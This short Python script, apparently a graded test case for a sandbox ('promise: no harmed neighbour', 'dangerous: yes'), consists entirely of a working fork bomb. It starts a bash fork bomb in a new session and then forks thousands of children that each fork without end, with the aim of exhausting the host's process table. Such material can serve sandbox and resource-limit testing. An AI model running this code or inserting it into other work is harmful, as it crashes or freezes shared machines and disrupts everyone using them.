# Starts processes that start processes, from Python and from a shell.
# promise: no harmed neighbour
# status: graded
# score: 0
# prints: tried
# dangerous: yes
# %% last
import os
import subprocess

print("tried")
try:
    subprocess.Popen(["bash", "-c", "bomb() { bomb | bomb & }; bomb"], start_new_session=True)
except OSError:
    pass
for _ in range(5000):
    try:
        if os.fork() == 0:
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    except OSError:
        break
